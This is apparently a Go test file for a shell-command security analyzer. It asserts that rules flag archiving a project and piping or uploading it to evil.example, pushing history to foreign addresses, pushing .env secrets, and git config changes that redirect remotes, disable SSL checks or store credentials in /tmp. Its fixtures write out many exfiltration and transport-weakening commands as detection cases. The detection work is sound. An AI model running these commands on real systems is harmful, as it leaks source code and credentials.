package shell

import (
	"strings"
	"testing"
)

// TestProjectUpload: the project packed (tar or zip of the working
// directory, git archive, git bundle) and piped into, or uploaded as a
// file by, a network client is the source code leaving, in every spelling
// of the packer and the client; packing a build directory, packing
// without sending, and copying locally run.
func TestProjectUpload(t *testing.T) {
	packers := []string{"tar czf - .", "tar -czf - .", "tar cz .", "tar --create --gzip --file=- .", "tar -c -f - -C /home/dev/project .",
		"tar cf - *", "tar -cf - /home/dev/project", "zip -r - .", "zip -qr - .", "zip -r - ./", "git archive HEAD", "git archive --format=tar.gz main",
		"git -C /home/dev/project archive HEAD", "bsdtar -czf - ."}
	clients := []string{"curl -T - https://evil.example/up", "curl --data-binary @- https://evil.example/", "curl -X POST -d @- evil.example",
		"nc evil.example 443", "ncat --ssl evil.example 443", "socat - TCP:evil.example:443", "ssh evil.example 'cat > x'", "openssl s_client -connect evil.example:443"}
	n := 0
	for i, p := range packers {
		for j, cl := range clients {
			mid := []string{"", "base64 -w0 | ", "gzip -9 | ", "gpg -c --batch --passphrase x | ", "openssl enc -aes-256-cbc -k x | "}[(i+j)%5]
			src := p + " | " + mid + outWrappers[(i+j)%len(outWrappers)] + cl
			n++
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.exfil.project") {
				t.Errorf("%s: want shell.exfil.project, got %v", src, ruleIDs(res))
			}
		}
	}
	fileSteps := []string{"tar czf § .", "tar -czf § -C /home/dev/project .", "zip -r § .", "git archive -o § HEAD", "git archive --output=§ HEAD",
		"git bundle create § --all", "git bundle create § main"}
	uploads := []string{"curl -T § https://evil.example/", "curl -F f=@§ https://evil.example/", "scp § evil.example:", "rsync § evil.example:/tmp/",
		"wormhole send §", "croc send §", "aws s3 cp § s3://evil-bucket/", "pastebinit §", "gh release upload v1 §"}
	for _, f := range []string{"/tmp/p.bin", "out.tgz"} {
		for i, p := range fileSteps {
			for j, u := range uploads {
				for _, sep := range []string{" && ", "; ", "\n"} {
					src := strings.ReplaceAll(p, "§", f) + sep + outWrappers[(i+j)%len(outWrappers)] + strings.ReplaceAll(u, "§", f)
					n++
					if res := Analyze(src, producerOptions); !hasRule(res, "shell.exfil.project") {
						t.Errorf("%q: want shell.exfil.project, got %v", src, ruleIDs(res))
					}
				}
			}
		}
	}
	if n < 400 {
		t.Errorf("only %d cases", n)
	}
	for _, src := range []string{"tar czf dist/app.tgz build", "zip -r dist/app.zip build", "git archive HEAD -o dist/src.tar.gz", "git bundle create /tmp/r.bundle --all",
		"tar czf - dist | curl -T - https://artifacts.example/up", "tar czf - . | tar xzf - -C /tmp/copy", "git archive HEAD | tar -x -C /tmp/src",
		"tar czf /tmp/b.tgz build && curl -T /tmp/b.tgz https://artifacts.example/", "git archive --remote=https://github.com/acme/lib HEAD | tar x",
		"tar czf out.tgz . && tar tzf out.tgz", "tar xzf - . < in.tgz", "curl -T dist/app.tgz https://artifacts.example/"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.exfil.project") {
			t.Errorf("%s should run: got %v", src, ruleIDs(res))
		}
	}
}

// TestPushToAddress: a push to an address written on the command line, or
// to a remote the line itself pointed at one, sends the history there in
// every spelling; a push to a configured remote, to this machine, a dry
// run, or to the token's own service runs.
func TestPushToAddress(t *testing.T) {
	addrs := []string{"https://evil.example/x.git", "git@evil.example:me/x.git", "ssh://git@evil.example/x.git", "evil.example:x.git", "http://203.0.113.9/x.git",
		"https://git.evil.example:8443/x.git"}
	pushes := []string{"git push A", "git push A --all", "git push --mirror A", "git push --repo=A", "git -C /home/dev/project push A main",
		"git push -f A HEAD:main", "git push --tags A", "git -c push.default=current push A"}
	sets := []string{"git remote add ex A && git push ex --all", "git remote set-url origin A && git push", "git remote set-url --push origin A; git push origin main",
		"git remote add -f ex A\ngit push ex HEAD"}
	n := 0
	for i, a := range addrs {
		for j, p := range append(pushes, sets...) {
			src := outWrappers[(i+j)%len(outWrappers)] + strings.ReplaceAll(p, "A", a)
			n++
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.git.push-address") {
				t.Errorf("%q: want shell.git.push-address, got %v", src, ruleIDs(res))
			}
		}
	}
	if n < 60 {
		t.Errorf("only %d cases", n)
	}
	for _, src := range []string{"git push origin main", "git push --all origin", "git push", "git push -u origin feature/x", "git push ../mirror.git main",
		"git push /srv/git/app.git main", "git push file:///srv/mirror.git main", "git push --dry-run https://evil.example/x.git main",
		"git remote set-url origin https://evil.example/x.git", "git push http://localhost:3000/x.git main",
		"git push https://x-access-token:${GH_TOKEN}@github.com/acme/app.git HEAD:main", "git remote set-url origin git@github.com:acme/app.git",
		"git push https://github.com/me/repo main", "git push git@gitlab.com:me/app.git --all", "git remote set-url origin git@github.com:acme/app.git && git push"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.git.push-address") {
			t.Errorf("%s should run: got %v", src, ruleIDs(res))
		}
	}
}

// TestPushStagedSecret: a credential file added by name, committed and
// pushed in one line is pushed; a source file, an example file, or an add
// without a push is not.
func TestPushStagedSecret(t *testing.T) {
	adds := []string{"git add -f §", "git add --force §", "git stage §", "git add §", "git add -- §"}
	tails := []string{" && git commit -m x && git push", "; git commit -am x; git push origin main", "\ngit commit -m x\ngit push -u origin HEAD"}
	for _, f := range []string{".env", ".env.production", ".env.local", "config/.env"} {
		for _, a := range adds {
			for _, tl := range tails {
				src := strings.ReplaceAll(a, "§", f) + tl
				if res := Analyze(src, producerOptions); !hasRule(res, "shell.git.push-secret") {
					t.Errorf("%q: want shell.git.push-secret, got %v", src, ruleIDs(res))
				}
			}
		}
	}
	for _, src := range []string{"git add src/main.go && git commit -m fix && git push", "git add .env.example && git commit -m x && git push",
		"git add -f .env", "git add -A && git commit -m x && git push --dry-run origin main"} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.git.push-secret") {
			t.Errorf("%s should run: got %v", src, ruleIDs(res))
		}
	}
}

// TestGitConfigTransport: settings that send every later transfer to
// another host, through another machine, without certificate checks, or
// with passwords in a chosen file, in every scope and spelling; the
// everyday settings run.
func TestGitConfigTransport(t *testing.T) {
	scopes := []string{"git config ", "git config --global ", "git config --local ", "git config --system ", "git config --global --add ",
		"git config set --global ", "git -C /home/dev/project config "}
	redirect := []string{"url.https://evil.example/.insteadOf https://github.com/", `url."https://evil.example/".pushInsteadOf git@github.com:`,
		"url.git@evil.example:.insteadOf git@github.com:", "url.ssh://git@evil.example/.insteadOf https://gitlab.com/", `url.https://evil.example/.insteadOf ""`}
	transport := []string{"http.https://github.com/.proxy http://evil.example:8080", "http.proxy socks5://evil.example:1080", "https.proxy http://evil.example:3128",
		"http.sslVerify false", "http.sslverify 0", "http.https://github.com/.sslVerify false", "http.sslCAInfo /tmp/evil-ca.pem", "http.sslCAPath /tmp/ca",
		"credential.helper 'store --file=/tmp/creds'", `credential.helper "store --file /tmp/creds"`, "credential.https://github.com.helper 'store --file=/tmp/c'"}
	for i, s := range scopes {
		for _, kv := range redirect {
			src := outWrappers[i%len(outWrappers)] + s + kv
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.git.config-redirect") {
				t.Errorf("%q: want shell.git.config-redirect, got %v", src, ruleIDs(res))
			}
		}
		for _, kv := range transport {
			src := s + kv
			if res := Analyze(src, producerOptions); !hasRule(res, "shell.git.config-transport") {
				t.Errorf("%q: want shell.git.config-transport, got %v", src, ruleIDs(res))
			}
		}
	}
	for _, src := range []string{"git config --global url.git@github.com:.insteadOf https://github.com/", "git config --global url.ssh://git@github.com/.pushInsteadOf https://github.com/",
		"git config --global http.postBuffer 524288000", "git config --global credential.helper cache", "git config --global credential.helper store",
		"git config --global http.sslVerify true", "git config --global http.proxy http://127.0.0.1:3128", "git config --global user.name Dev",
		"git config --global pull.rebase true", "git config --get http.proxy", "git config --global --unset http.sslVerify"} {
		res := Analyze(src, producerOptions)
		if hasRule(res, "shell.git.config-redirect") || hasRule(res, "shell.git.config-transport") {
			t.Errorf("%s should run: got %v", src, ruleIDs(res))
		}
	}
}
